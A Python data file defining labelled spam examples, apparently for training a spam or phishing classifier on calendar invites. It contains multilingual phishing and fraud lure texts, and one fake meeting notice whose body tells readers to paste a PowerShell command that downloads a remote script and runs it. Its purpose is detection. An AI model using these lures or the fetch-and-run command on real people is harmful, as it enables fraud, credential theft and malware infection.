"""Spam message specifications for train4 (hand-written content, varied platforms)."""

RCPT = [("Anna Berger", "anna.berger@example.net"), ("Tom Walsh", "t.walsh@example.net"),
        ("Lucía Romero", "lucia.romero@example.net"), ("Jens Kühn", "jens.kuehn@example.net"),
        ("", "info@example.net"), ("Priya Nair", "priya.nair@example.net"), ("Marc Dubois", "m.dubois@example.net"),
        ("", "accounts@example.net"), ("Kenji Sato", "k.sato@example.net"), ("Olga Ivanova", "olga@example.net"),
        ("Mehmet Yilmaz", "mehmet.yilmaz@example.net"), ("", "hr@example.net"), ("Sofia Rossi", "sofia.rossi@example.net"),
        ("Pieter de Vries", "pieter@example.net"), ("Wei Zhang", "wei.zhang@example.net"), ("Ewa Nowak", "ewa.nowak@example.net"),
        ("", "finance@example.net"), ("João Silva", "joao.silva@example.net"), ("Fatima Haddad", "f.haddad@example.net")]

_i = [0]


def S(cat, **kw):
    n = _i[0]
    _i[0] += 1
    r = RCPT[(n * 7 + 3) % len(RCPT)]
    d = dict(label="spam", cat=cat, to=r[1], to_name=r[0])
    d.update(kw)
    return d


def G(auth_pass=True, **kw):
    """Spam sent by a free account through Google Calendar: really from google.com."""
    kw.setdefault("plat", "google")
    kw.setdefault("client", "google")
    kw.setdefault("auth", {"dkim": "pass", "spf": "pass", "dmarc": "pass"})
    return kw


MANY = [("", f"{n}@example.net") for n in ["anna.berger", "t.walsh", "lucia.romero", "jens.kuehn", "info", "priya.nair", "m.dubois", "accounts", "k.sato", "olga", "mehmet.yilmaz", "hr", "sofia.rossi", "pieter", "wei.zhang", "ewa.nowak", "finance", "joao.silva", "f.haddad", "sales", "support", "jobs", "press", "office"]]


def specs():
    L = []
    # ------------------------------------------------------------ compromised_share
    L.append(S("compromised_share", plat="o365", client="outlook", tz="Europe/Berlin", lang_tag="de-DE",
               **{"from": ("Katrin Vogel", "katrin.vogel@example.net")},
               auth={"dkim": "pass", "dkim_d": "example.net", "spf": "pass", "dmarc": "pass", "policy": "QUARANTINE", "ip": "2001:db8:40:10::25"},
               summary="Katrin Vogel hat \"Q3 Budgetplanung_final.xlsx\" für Sie freigegeben",
               desc="Katrin Vogel hat eine Datei für Sie freigegeben.\n\nQ3 Budgetplanung_final.xlsx\n\nÖffnen: https://examplenet-my.sharepoint-docs.pages.dev/:x:/g/personal/katrin_vogel/EZ8f2Qm1?e=Kq7xP2\n\nBitte vor dem Termin ansehen, danke!\nKatrin",
               location="Microsoft Teams-Besprechung", when=(0, 15, 0), dur=30))
    L.append(S("compromised_share", plat="o365", client="exchange16", tz="America/Chicago",
               **{"from": ("Derek Olsen", "dolsen@harborlinelogistics.example")},
               auth={"dkim": "pass", "dkim_d": "harborlinelogistics.example", "spf": "pass", "dmarc": "pass", "policy": "REJECT", "ip": "203.0.113.44"},
               summary="Derek Olsen shared \"Signed PO 44817 & remittance\" with you",
               desc="Hi,\n\nPlease see the attached updated PO and remittance details for this quarter. Document is secured via OneDrive for Business.\n\nREVIEW DOCUMENT: https://1drv-ms.harborline-docs.workers.dev/v/s!AmP0x4817?auth=pwd\n\nThanks,\nDerek Olsen | Accounts Receivable\nHarborline Logistics\n(555) 010-4471",
               location="OneDrive", when=(1, 9, 0), dur=60))
    L.append(S("compromised_share", plat="google", client="google", tz="Europe/London",
               **{"from": ("Hannah Price", "hannah.price.studio@gmail.com")},
               auth={"dkim": "pass", "spf": "pass", "dmarc": "pass"},
               summary="Hannah Price has shared a document with you",
               desc="Hannah Price (hannah.price.studio@gmail.com) has invited you to view the following document:\n\nProposal_Example_Net_2024.pdf\n\nOpen in Drive: https://sites.google.com/view/drive-doc-share-9921/home\n\nGoogle LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA",
               location="https://sites.google.com/view/drive-doc-share-9921/home", when=(0, 11, 0), dur=30))
    L.append(S("compromised_share", plat="o365", client="outlook", tz="Europe/Paris", lang_tag="fr-FR",
               **{"from": ("Cabinet Moreau Notaires", "accueil@moreau-notaires.example")},
               auth={"dkim": "pass", "dkim_d": "moreau-notaires.example", "spf": "pass", "dmarc": "none", "ip": "198.51.100.77"},
               summary="Documents à signer – dossier 2291/B",
               desc="Bonjour,\n\nVeuillez trouver les documents relatifs au dossier 2291/B partagés via notre espace sécurisé.\n\nConsulter les documents : https://moreau-notaires-fr.sharepoint.com.cloud-view.example/sites/Dossiers/2291B\n\nLe lien expire dans 48 heures.\n\nCordialement,\nSecrétariat – Cabinet Moreau",
               location="Espace documents sécurisé", when=(1, 14, 30), dur=30))
    L.append(S("compromised_share", plat="spamkit", client="ics_js", tz="UTC", structure="mixed_text_att", bstyle="php",
               **{"from": ("Dropbox", "no-reply@dropbox-transfer.example")},
               auth={"dkim": "pass", "dkim_d": "dropbox-transfer.example", "spf": "pass", "dmarc": "pass", "policy": "NONE", "ip": "203.0.113.190"},
               summary="Marta sent you 3 files (14.2 MB)",
               body="", desc="Marta Kowalski sent you files via Dropbox Transfer\n\nINV-2291.pdf\nContract_rev2.docx\nscan0041.pdf\n\nView files: https://dropbox-transfer.example/t/7QcXn2kLpa\n\nFiles will be deleted in 3 days.",
               url="https://dropbox-transfer.example/t/7QcXn2kLpa", when=(0, 16, 0), dur=15, ics_name="Dropbox_Transfer.ics"))
    L.append(S("compromised_share", plat="exchange", client="exchange", tz="Europe/Amsterdam", lang_tag="nl-NL",
               **{"from": ("Ruud Jansen", "r.jansen@example.net")},
               auth={"dkim": "none", "spf": "pass", "dmarc": "pass", "ip": "10.20.1.15"},
               exch_host="EXCH02.corp.example.net", exch_edge="EDGE01.corp.example.net",
               summary="Nieuw beleid thuiswerken 2025 – graag doornemen",
               desc="Beste collega's,\n\nHet nieuwe thuiswerkbeleid staat klaar in SharePoint. Graag vóór het overleg doornemen en je akkoord geven via het formulier:\n\nhttps://forms.office.com.example-net-hr.site/r/Thuiswerk2025\n\nMet vriendelijke groet,\nRuud Jansen\nHR",
               location="Vergaderzaal 3 / Teams", when=(2, 10, 0), dur=45))
    L.append(S("compromised_share", plat="o365", client="exchange16", tz="America/New_York",
               **{"from": ("Rachel Kim", "rkim@brightwatercpa.example")},
               auth={"dkim": "pass", "dkim_d": "brightwatercpa.example", "spf": "pass", "dmarc": "pass", "policy": "QUARANTINE", "ip": "198.51.100.12"},
               summary="2023 Tax Organizer - action needed",
               desc="Good afternoon,\n\nYour 2023 tax organizer has been shared with you through our secure client portal. Please download, complete and return before our call.\n\nhttps://brightwatercpa.example.docsend-secure.com/view/ktx92m\n\nRachel Kim, CPA\nBrightwater CPA Group",
               location="Phone", when=(3, 13, 0), dur=30, arrival=(2024, 2, 13, 18, 22)))
    L.append(S("compromised_share", plat="google", client="google", tz="America/Los_Angeles",
               **{"from": ("Brian Tate", "b.tate@sunridge-builders.example")},
               auth={"dkim": "pass", "spf": "pass", "dmarc": "pass"},
               summary="Sunridge Builders - Project Bid Documents",
               desc="You have been invited to review bid documents for the Mesa Commons project.\n\nBid package (secure link): https://docs.google.com/drawings/d/1xMesaCommonsBid77Qz/preview\n\nSubmit questions by Friday.\nBrian Tate, Estimator",
               location="", when=(2, 9, 30), dur=60))
    L.append(S("compromised_share", plat="spamkit", client="phpkit", tz="UTC", structure="alt_cal", bstyle="java",
               **{"from": ("SharePoint Online", "sharepoint@example.net")},
               auth={"dkim": "fail", "dkim_d": "example.net", "spf": "softfail", "dmarc": "fail", "policy": "NONE", "ip": "203.0.113.9", "mailfrom": "mx-relay.bulkserv.example"},
               summary="New document shared: Salary_Adjustments_2025.pdf",
               body="Salary_Adjustments_2025.pdf was shared with you by HR Department.\n\nOpen: https://examplenet.sharepoint.com-login.example/sites/HR/Shared%20Documents\n\nThis link will work for anyone in Example Net.",
               desc="Open: https://examplenet.sharepoint.com-login.example/sites/HR/Shared%20Documents", when=(0, 12, 0), dur=30))
    L.append(S("compromised_share", plat="apple", client="ios", tz="Australia/Sydney",
               **{"from": ("Liam O'Connor", "liam.oconnor@icloud.com")},
               auth={"dkim": "pass", "dkim_d": "icloud.com", "spf": "pass", "dmarc": "pass", "policy": "QUARANTINE", "mailfrom": "icloud.com", "ip": "198.51.100.210"},
               summary="Shared file: Site photos & invoice",
               body="", desc="I've shared the site photos and revised invoice here, have a look when you get a sec\nhttps://www.icloud.com.share-view.example/iclouddrive/0aZ7k#Invoice_rev", location="", when=(1, 8, 0), dur=30))
    L.append(S("compromised_share", plat="o365", client="outlook", tz="Europe/Warsaw", lang_tag="pl-PL", charset="iso-8859-2",
               **{"from": ("Agnieszka Wróbel", "a.wrobel@example.net")},
               auth={"dkim": "pass", "dkim_d": "example.net", "spf": "pass", "dmarc": "pass", "policy": "REJECT", "ip": "2001:db8:40:10::31"},
               summary="Zaktualizowany harmonogram płatności",
               desc="Dzień dobry,\n\nprzesyłam zaktualizowany harmonogram płatności na IV kwartał. Dokument jest dostępny w OneDrive:\n\nhttps://onedrive-live.com.pl-docs.example/personal/a_wrobel/harmonogram\n\nProszę o potwierdzenie przed spotkaniem.\nPozdrawiam\nAgnieszka", location="Teams", when=(1, 11, 0), dur=30))

    # ------------------------------------------------------------ bec_exec
    L.append(S("bec_exec", plat="google", client="google", tz="America/New_York",
               **{"from": ("Robert Hale", "roberthale.ceo.office@gmail.com")},
               auth={"dkim": "pass", "spf": "pass", "dmarc": "pass"},
               summary="Quick task", desc="Are you available? I need you to handle a task for me discreetly. Reply to my email once you get this.\n\nRobert\nSent from my iPhone",
               when=(0, 14, 0), dur=15))
    L.append(S("bec_exec", plat="outlookcom", client="outlookcom", tz="Europe/Berlin", lang_tag="de-DE",
               **{"from": ("Dr. Stefan Brandt", "stefan.brandt.gf@outlook.com")},
               auth={"dkim": "pass", "dkim_d": "outlook.com", "spf": "pass", "dmarc": "pass", "policy": "NONE", "ip": "2001:db8:10:5::1", "mailfrom": "outlook.com"},
               summary="Vertraulich – kurze Rückmeldung",
               desc="Hallo,\n\nsind Sie gerade im Büro? Ich brauche kurzfristig Ihre Unterstützung bei einer vertraulichen Überweisung im Zusammenhang mit einer Übernahme. Bitte noch nicht mit anderen darüber sprechen.\n\nAntworten Sie mir bitte direkt per Mail.\n\nStefan Brandt\nGeschäftsführer", when=(0, 16, 30), dur=15))
    L.append(S("bec_exec", plat="spamkit", client="generic", tz="UTC", structure="alt_cal", bstyle="other",
               **{"from": ("Maria Gonzalez", "maria.gonzalez@example-net.co")},
               reply_to="maria.gonzalez.exec@proton.example",
               auth={"dkim": "pass", "dkim_d": "example-net.co", "spf": "pass", "dmarc": "pass", "policy": "NONE", "ip": "198.51.100.141"},
               summary="Gift cards for the team",
               body="Hi,\n\nI want to surprise some of the staff with gift cards today. Can you pick up 6 Apple gift cards at $200 each? I'll reimburse you later. I'm in meetings all day so email me the codes once you have them.\n\nThanks\nMaria",
               desc="Gift cards - see email", when=(0, 17, 0), dur=30, arrival=(2019, 12, 17, 15, 4)))
    L.append(S("bec_exec", plat="o365", client="exchange16", tz="Europe/Madrid", lang_tag="es-ES",
               **{"from": ("Javier Ortega", "javier.ortega@example.net")},
               auth={"dkim": "pass", "dkim_d": "example.net", "spf": "pass", "dmarc": "pass", "policy": "REJECT", "ip": "2001:db8:40:10::25"},
               summary="Cambio de cuenta bancaria proveedor",
               desc="Hola,\n\nnuestro proveedor Grupo Alcázar ha cambiado de banco. A partir de hoy los pagos deben ir a la nueva cuenta:\n\nIBAN ES91 2100 0418 4502 0005 1332\nBeneficiario: Alcazar Supplies Ltd\n\nPor favor, actualízalo antes del pago de mañana y confírmame por correo. Estoy en un avión, no puedo atender llamadas.\n\nJavier", when=(1, 9, 0), dur=15, importance=True))
    L.append(S("bec_exec", plat="google", client="google", tz="Europe/Rome", gprefix="Invito",
               **{"from": ("Alessandro Ferri", "a.ferri.direzione@gmail.com")},
               auth={"dkim": "pass", "spf": "pass", "dmarc": "pass"},
               summary="Riservato", desc="Ciao, sei disponibile? Ho bisogno che tu gestisca un pagamento urgente per me oggi. Scrivimi su WhatsApp al +39 0612 345678 appena leggi.\n\nAlessandro", when=(0, 12, 0), dur=15))
    L.append(S("bec_exec", plat="spamkit", client="phpkit", tz="Asia/Tokyo", structure="mixed_text_att", charset="iso-2022-jp", cte="7bit", bstyle="php",
               **{"from": ("山本 健一", "k.yamamoto@example-net.jp.example")},
               auth={"dkim": "none", "spf": "pass", "dmarc": "none", "ip": "203.0.113.61"},
               summary="至急のお願い",
               body="お疲れ様です。\n\n今、お時間ありますか？極秘の案件で至急対応していただきたいことがあります。\n会議中のため電話に出られませんので、このメールに直接返信してください。\n\n山本",
               desc="至急のお願い。メールに返信してください。", when=(0, 15, 0), dur=30))
    L.append(S("bec_exec", plat="o365", client="outlook", tz="Europe/Paris", lang_tag="fr-FR",
               **{"from": ("Philippe Garnier", "p.garnier@example.net")},
               auth={"dkim": "pass", "dkim_d": "example.net", "spf": "pass", "dmarc": "pass", "policy": "QUARANTINE", "ip": "2001:db8:40:10::26"},
               summary="Virement international – confidentiel",
               desc="Bonjour,\n\nJe vous sollicite pour une opération financière confidentielle (acquisition en cours). Maître Laurent, de notre cabinet d'avocats, vous contactera dans l'heure. Merci de suivre ses instructions et de ne pas en parler pour le moment, l'AMF impose une stricte confidentialité.\n\nPhilippe Garnier\nPrésident", when=(0, 17, 0), dur=30))
    L.append(S("bec_exec", plat="spamkit", client="eluceo", tz="Europe/Moscow", structure="mixed_html_att", charset="koi8-r", cte="base64", bstyle="other",
               **{"from": ("Сергей Петров", "s.petrov.director@mail-box.example")},
               auth={"dkim": "pass", "dkim_d": "mail-box.example", "spf": "pass", "dmarc": "pass", "policy": "NONE"},
               summary="Срочно", body="Добрый день!\n\nВы на месте? Нужно срочно провести оплату по счёту, подробности пришлю. Пожалуйста, никому пока не говорите.\n\nС уважением,\nСергей Петров, генеральный директор",
               desc="Вы на месте? Ответьте на письмо.", when=(0, 13, 0), dur=15))
    L.append(S("bec_exec", plat="outlookcom", client="outlookcom", tz="America/Sao_Paulo", lang_tag="pt-BR",
               **{"from": ("Carlos Mendes", "carlosmendes.diretoria@hotmail.com")},
               auth={"dkim": "pass", "dkim_d": "hotmail.com", "spf": "pass", "dmarc": "pass", "policy": "NONE", "mailfrom": "hotmail.com", "ip": "2001:db8:10:5::7"},
               summary="Preciso de um favor", desc="Oi, você está disponível agora? Preciso que compre alguns cartões-presente Google Play para clientes, é urgente. Depois eu reembolso. Me responda por aqui.\n\nCarlos", when=(0, 10, 0), dur=15))

    # ------------------------------------------------------------ invoice_lure
    L.append(S("invoice_lure", plat="spamkit", client="ical_net", tz="America/New_York", structure="mixed_alt_att", bstyle="dotnet",
               **{"from": ("PayPal", "service@paypal-billing-center.example")},
               auth={"dkim": "pass", "dkim_d": "sendgrid.net", "spf": "pass", "mailfrom": "em4221.paypal-billing-center.example", "dmarc": "fail", "policy": "NONE", "ip": "198.51.100.88"},
               summary="Invoice INV-55910: $849.99 due",
               body="PayPal\n\nHello,\nYou received an invoice from Norton LifeLock for $849.99 USD.\nIf you did not authorise this charge, call our billing department at +1 (555) 010-7734 within 24 hours to cancel.\n\nInvoice ID: INV-55910\nDue on receipt",
               desc="Invoice $849.99 - if you did not authorise call +1 (555) 010-7734", when=(0, 18, 0), dur=30, ics_name="invoice.ics"))
    L.append(S("invoice_lure", plat="o365", client="exchange16", tz="Europe/London", lang_tag="en-GB",
               **{"from": ("Accounts Payable", "ap@crestmoor-engineering.example")},
               auth={"dkim": "pass", "dkim_d": "crestmoor-engineering.example", "spf": "pass", "dmarc": "pass", "policy": "REJECT", "ip": "203.0.113.33"},
               summary="Remittance Advice - Payment £18,420.00 - Ref 0094411",
               desc="Dear Supplier,\n\nPlease find remittance advice for payment released today. To view the remittance please authenticate with your company email.\n\nView Remittance: https://crestmoor-remit.netlify.app/#t.walsh\n\nRegards\nAccounts Payable\nCrestmoor Engineering Ltd", when=(0, 14, 0), dur=30))
    L.append(S("invoice_lure", plat="google", client="google", tz="Europe/Berlin",
               **{"from": ("Rechnungsstelle", "rechnung.buchhaltung24@gmail.com")},
               summary="Offene Rechnung Nr. 2024-8812 – Zahlungserinnerung", gprefix="Einladung",
               desc="Sehr geehrte Damen und Herren,\n\nleider konnten wir bis heute keinen Zahlungseingang für die Rechnung 2024-8812 über 1.284,50 € feststellen. Die Rechnung finden Sie hier:\nhttps://drive.google.com/file/d/1Rg8812xQ0yHvVnA_pLm/view?usp=sharing\n\nBitte begleichen Sie den Betrag innerhalb von 3 Tagen, um Mahngebühren zu vermeiden.",
               when=(1, 10, 0), dur=30))
    L.append(S("invoice_lure", plat="spamkit", client="phpkit", tz="UTC", structure="mixed_att_only", bstyle="php", att_ctype="application/octet-stream",
               **{"from": ("DocuSign", "dse@docusign-notice.example")},
               auth={"dkim": "pass", "dkim_d": "docusign-notice.example", "spf": "pass", "dmarc": "pass", "policy": "NONE"},
               summary="Complete with DocuSign: Invoice_Q4_Payment.pdf",
               desc="Please review and sign: Invoice_Q4_Payment.pdf\nREVIEW DOCUMENT https://docusign-notice.example/Signing/EmailStart.aspx?a=9fb2\nDo Not Share This Email", when=(0, 9, 0), dur=30, ics_name="DocuSign.ics"))
    L.append(S("invoice_lure", plat="o365", client="outlook", tz="Europe/Istanbul", lang_tag="tr-TR",
               **{"from": ("Muhasebe - Yıldız Tekstil", "muhasebe@yildiztekstil.example")},
               auth={"dkim": "pass", "dkim_d": "yildiztekstil.example", "spf": "pass", "dmarc": "none", "ip": "203.0.113.150"},
               summary="Ödeme bildirimi - Fatura no 7731",
               desc="Merhaba,\n\n7731 numaralı faturanın ödemesi bugün yapılmıştır. Dekont ektedir, görüntülemek için:\nhttps://yildiztekstil-dekont.web.app/dekont.html\n\nİyi çalışmalar,\nMuhasebe", when=(0, 15, 0), dur=30))
    L.append(S("invoice_lure", plat="spamkit", client="ics_js", tz="UTC", structure="alt_cal",
               **{"from": ("Amazon Business", "billing@amazon-business-payments.example")},
               auth={"dkim": "pass", "dkim_d": "amazonses.com", "extra_dkim": [], "spf": "pass", "mailfrom": "amazonses.com", "dmarc": "fail", "policy": "NONE", "ip": "198.51.100.231"},
               summary="Your order #114-8826143 has been placed - £1,249.00",
               body="Hello,\n\nThank you for your order. Apple MacBook Air 15\" - Qty 1 - £1,249.00\nDelivery: tomorrow by 9pm\n\nIf you didn't make this purchase call Amazon Support 0808 157 0901 (free).\n",
               desc="Order #114-8826143 £1,249.00. Not you? Call 0808 157 0901", when=(1, 9, 0), dur=60))
    L.append(S("invoice_lure", plat="outlookcom", client="outlookcom", tz="Europe/Amsterdam", lang_tag="nl-NL",
               **{"from": ("Facturatie", "facturen.incasso@outlook.com")},
               auth={"dkim": "pass", "dkim_d": "outlook.com", "spf": "pass", "dmarc": "pass", "policy": "NONE", "mailfrom": "outlook.com"},
               summary="Laatste herinnering factuur 20419 – € 312,40",
               desc="Geachte heer/mevrouw,\n\nOndanks eerdere herinneringen hebben wij uw betaling nog niet ontvangen. Betaal vandaag via onderstaande link om incassokosten te voorkomen:\n\nhttps://tinyurl.com/fact-20419-betaal\n\nMet vriendelijke groet,\nAfdeling Debiteuren", when=(0, 17, 0), dur=15))

    # ------------------------------------------------------------ fake_client
    L.append(S("fake_client", plat="spamkit", client="zoom", tz="America/Chicago", structure="mixed_alt_att",
               **{"from": ("Zoom", "no-reply@zoom-us-meeting.example")},
               auth={"dkim": "pass", "dkim_d": "zoom-us-meeting.example", "spf": "pass", "dmarc": "pass", "policy": "NONE", "ip": "203.0.113.201"},
               summary="Zoom meeting invitation - Quarterly Review",
               body="Hi there,\n\nYou are invited to a scheduled Zoom meeting.\n\nTopic: Quarterly Review\n\nJoin Zoom Meeting\nhttps://us05web.zoom-us-meeting.example/j/84416022119?pwd=QmR2\n\nYour Zoom client is out of date. To join, install the latest version:\nhttps://zoom-us-meeting.example/download/ZoomInstallerFull.msi\n",
               desc="Join: https://us05web.zoom-us-meeting.example/j/84416022119\nUpdate required: https://zoom-us-meeting.example/download/ZoomInstallerFull.msi",
               location="https://us05web.zoom-us-meeting.example/j/84416022119", when=(0, 15, 0), dur=45))
    L.append(S("fake_client", plat="o365", client="teams", tz="Europe/London", lang_tag="en-GB",
               **{"from": ("Oliver Grant", "oliver.grant@kestrelwealth.example")},
               auth={"dkim": "pass", "dkim_d": "kestrelwealth.example", "spf": "pass", "dmarc": "pass", "policy": "QUARANTINE"},
               summary="Catch-up re: portfolio transfer",
               teams_url="https://teams-microsoft-live.example/l/meetup-join/19%3ameeting_NjQ2",
               desc="________________________________________________________________________________\nMicrosoft Teams meeting\nJoin on your computer, mobile app or room device\nClick here to join the meeting<https://teams-microsoft-live.example/l/meetup-join/19%3ameeting_NjQ2>\n\nIf you are asked to update Teams, download the desktop app here: https://teams-microsoft-live.example/dl/MSTeamsSetup_x64.exe\n________________________________________________________________________________",
               location="Microsoft Teams Meeting", when=(1, 11, 0), dur=30))
    L.append(S("fake_client", plat="google", client="google", tz="America/Los_Angeles",
               **{"from": ("Nina Alvarez", "nina.alvarez.talent@gmail.com")},
               summary="Interview - Senior Product Designer (Webex)",
               desc="Hi! Thanks for applying. The interview will be held on our secure Webex room.\n\nBefore joining please install Webex Meetings Desktop (the browser version is disabled for candidate interviews):\nhttps://webex-meet-desk.pages.dev/WebexSetup-44.6.dmg\n\nMac users: if macOS says the app can't be opened, right-click and choose Open.\n\nBest,\nNina | Talent Acquisition",
               when=(2, 10, 0), dur=45))
    L.append(S("fake_client", plat="spamkit", client="eluceo", tz="Europe/Berlin", structure="mixed_html_att", bstyle="php",
               **{"from": ("Microsoft Teams", "teams@notify-msteams.example")},
               auth={"dkim": "pass", "dkim_d": "notify-msteams.example", "spf": "pass", "dmarc": "pass", "policy": "NONE"},
               summary="Besprechung: Jahresgespräch 2025",
               body="Sie wurden zu einer Teams-Besprechung eingeladen.\n\nFalls die Besprechung nicht startet („Audiotreiber fehlt“):\n1. Drücken Sie Windows-Taste + R\n2. Fügen Sie den kopierten Befehl mit Strg+V ein\n3. Drücken Sie Enter\n\nDer Befehl wurde automatisch in Ihre Zwischenablage kopiert.\nhttps://teams-fix-audio.example/verify",
               desc="Teams-Besprechung. Bei Problemen: Win+R, Strg+V, Enter. https://teams-fix-audio.example/verify", when=(0, 14, 0), dur=60))
    L.append(S("fake_client", plat="o365", client="exchange16", tz="America/New_York",
               **{"from": ("IT Service Desk", "it.servicedesk@example.net")},
               auth={"dkim": "pass", "dkim_d": "example.net", "spf": "pass", "dmarc": "pass", "policy": "REJECT", "ip": "2001:db8:40:10::25"},
               summary="Mandatory: Zoom Workplace upgrade before Friday",
               desc="All staff,\n\nOur Zoom licence is moving to Zoom Workplace. Old clients will stop working on Friday. Please install the new client now:\n\nhttps://example-net-it.azurewebsites.net/ZoomWorkplace_Setup.exe\n\nIf SmartScreen warns you, click More info > Run anyway. This is expected for the internal build.\n\nIT Service Desk", when=(0, 16, 0), dur=15))
    L.append(S("fake_client", plat="spamkit", client="ics_js", tz="UTC", structure="alt_cal",
               **{"from": ("Google Meet", "meet-noreply@meet-google-invite.example")},
               auth={"dkim": "pass", "dkim_d": "meet-google-invite.example", "spf": "pass", "dmarc": "none"},
               summary="Meeting is starting now",
               body="Your meeting is starting. Having trouble? Verify you are human: open Run (Win + R) and paste:\n\npowershell -w h -c \"iwr meet-google-invite.example/c.txt|iex\"\n\nthen press Enter.",
               desc="Verify you are human: Win + R, paste the command and press Enter", when=(0, 0, 0), dur=30))
    L.append(S("fake_client", plat="google", client="google", tz="Europe/Paris", gprefix="Invitation",
               **{"from": ("Sophie Laurent", "sophie.laurent.invest@gmail.com")},
               summary="Rendez-vous partenariat", desc="Bonjour,\n\nPour notre visio, merci d'utiliser l'application sécurisée « MeetSecure » (plus fiable que Zoom) :\nhttps://meetsecure-app.example/download/MeetSecure_Setup.exe\n\nCode de la réunion : 448 920\n\nÀ bientôt,\nSophie", when=(1, 16, 0), dur=30))

    # ------------------------------------------------------------ dating
    L.append(S("dating", plat="google", client="google", tz="America/New_York",
               **{"from": ("Jessica", "jessica.sweet.2291@gmail.com")},
               summary="hi ❤️", desc="hey there, I saw your profile and wanted to say hi :) I'm new in town and kinda lonely. here are my pics https://jess-pics.carrd.co", when=(0, 21, 0), dur=60))
    L.append(S("dating", plat="apple", client="ios", tz="Europe/London",
               **{"from": ("Emily", "emily.rose1996@icloud.com")},
               auth={"dkim": "pass", "dkim_d": "icloud.com", "spf": "pass", "dmarc": "pass", "policy": "QUARANTINE", "mailfrom": "icloud.com"},
               summary="Are you free tonight?", body="", desc="I'm Emily 27, looking for someone to chat with tonight 😘 text me on telegram t.me/emily_rose_96", when=(0, 20, 0), dur=120))
    L.append(S("dating", plat="spamkit", client="phpkit", tz="Europe/Berlin", structure="mixed_html_att", bstyle="php",
               **{"from": ("Lena", "lena@flirt-nachbarn.example")},
               auth={"dkim": "pass", "dkim_d": "flirt-nachbarn.example", "spf": "pass", "dmarc": "pass", "policy": "NONE"},
               summary="Lena (24) hat dir 3 Nachrichten geschickt",
               body="Hey :) ich wohne ganz in deiner Nähe und würde dich gern kennenlernen. Mein Profil: https://flirt-nachbarn.example/p/lena24?ref=cal",
               desc="Lena hat dir geschrieben: https://flirt-nachbarn.example/p/lena24?ref=cal", when=(0, 22, 0), dur=60))
    L.append(S("dating", plat="google", client="google", tz="Asia/Shanghai",
               **{"from": ("小美", "xiaomei.love88@gmail.com")},
               summary="你好，可以认识一下吗？", desc="你好呀，我是小美，在深圳工作，想交个朋友。加我微信聊聊吧：mei_sz_8866 😊", when=(0, 20, 30), dur=60))
    L.append(S("dating", plat="spamkit", client="generic", tz="UTC", structure="alt_cal", charset="windows-1251", cte="base64",
               **{"from": ("Катя", "katya@znakomstva-ryadom.example")},
               auth={"dkim": "none", "spf": "neutral", "dmarc": "none"},
               summary="Привет, давай познакомимся", body="Привет! Я Катя, мне 25. Увидела тебя и решила написать. Мои фото тут: https://bit.ly/katya-foto25",
               desc="Мои фото: https://bit.ly/katya-foto25", when=(0, 23, 0), dur=60))
    L.append(S("dating", plat="outlookcom", client="outlookcom", tz="America/Mexico_City", lang_tag="es-MX",
               **{"from": ("Valeria", "valeria.m.1999@hotmail.com")},
               auth={"dkim": "pass", "dkim_d": "hotmail.com", "spf": "pass", "dmarc": "pass", "policy": "NONE", "mailfrom": "hotmail.com"},
               summary="hola guapo", desc="hola, me pareces interesante 😉 escríbeme por whatsapp +52 55 5010 0199, besos", when=(0, 21, 0), dur=60))

    # ------------------------------------------------------------ ics_only (calendar-only payloads)
    L.append(S("ics_only", plat="icsonly", client="phpkit", tz="UTC",
               **{"from": ("Norton", "support@nortonn-renewal.example")},
               auth={"dkim": "pass", "dkim_d": "nortonn-renewal.example", "spf": "pass", "dmarc": "pass", "policy": "NONE"},
               summary="Norton 360 auto-renewal $399.99 processed",
               desc="Your Norton 360 Deluxe subscription was renewed for $399.99. To cancel and get a refund call +1-555-0163 (Mon-Sun 24h).", when=(0, 17, 0), dur=30))
    L.append(S("ics_only", plat="icsonly", client="none", tz="UTC", ics_cte="base64",
               **{"from": ("", "noreply@x7k2-mailer.example")},
               auth={"dkim": "none", "spf": "softfail", "dmarc": "none"},
               summary="You've won! Claim your reward", desc="Congratulations! Claim here: https://rewards-claim.example/r/8x2k", url="https://rewards-claim.example/r/8x2k", when=(0, 0, 0), dur=10))
    L.append(S("ics_only", plat="icsonly", client="ics_js", tz="Europe/Berlin", ics_cte="quoted-printable",
               **{"from": ("Finanzamt", "service@elster-erstattung.example")},
               auth={"dkim": "pass", "dkim_d": "elster-erstattung.example", "spf": "pass", "dmarc": "pass", "policy": "NONE"},
               summary="Steuererstattung 2023: 1.126,40 € – Antrag bestätigen",
               desc="Ihre Steuererstattung ist bereit. Bestätigen Sie Ihre Bankverbindung bis morgen: https://elster-erstattung.example/antrag", when=(1, 9, 0), dur=15))
    L.append(S("ics_only", plat="icsonly", client="generic", tz="Asia/Dubai", ics_ctype='text/calendar; charset="utf-8"',
               **{"from": ("", "info@gulf-prize-office.example")},
               auth={"dkim": "pass", "dkim_d": "gulf-prize-office.example", "spf": "pass", "dmarc": "none"},
               summary="تهانينا! لقد فزت بجائزة نقدية",
               desc="تم اختيار بريدك الإلكتروني للفوز بمبلغ 50,000 دولار. للتواصل: +971 50 555 0142 أو عبر الرابط https://wa.me/971505550142", when=(0, 19, 0), dur=30))
    L.append(S("ics_only", plat="icsonly", client="phpkit", tz="UTC", drop_end_cal=True, nofold=True,
               **{"from": ("Customer Care", "cs@coinbase-secure-verify.example")},
               auth={"dkim": "pass", "dkim_d": "coinbase-secure-verify.example", "spf": "pass", "dmarc": "pass", "policy": "NONE"},
               summary="Unusual login detected - secure your wallet now",
               desc="A login from Lagos, NG was detected on your account. If this was not you, verify within 2 hours at https://xn--cinbase-9ya.example/verify or your assets will be frozen.", when=(0, 0, 0), dur=15))
    L.append(S("ics_only", plat="icsonly", client="generic", tz="UTC", ics_disp='attachment; filename="meeting.ics"',
               **{"from": ("Mark Davies", "mark.davies@example.net")},
               auth={"dkim": "pass", "dkim_d": "example.net", "spf": "pass", "dmarc": "pass", "policy": "REJECT", "ip": "2001:db8:40:10::27"},
               summary="Updated: Documents for review",
               desc="Docs: https://examplenet-my.sharepoint.com.doc-portal.example/personal/mark_davies/Documents", when=(0, 13, 0), dur=30))

    # ------------------------------------------------------------ callback
    L.append(S("callback", plat="google", client="google", tz="America/Chicago",
               **{"from": ("Geek Squad Billing", "geeksquad.billing.dept7@gmail.com")},
               summary="Thank you for your payment $489.99", desc="Dear Customer,\n\nYour Geek Squad Total Protection membership has been renewed for $489.99. Payment will be debited from your account within 24 hours.\n\nIf you wish to cancel, contact our helpline: +1 (555) 014-0177\n\nInvoice No: GS-882104", when=(0, 0, 0), dur=30))
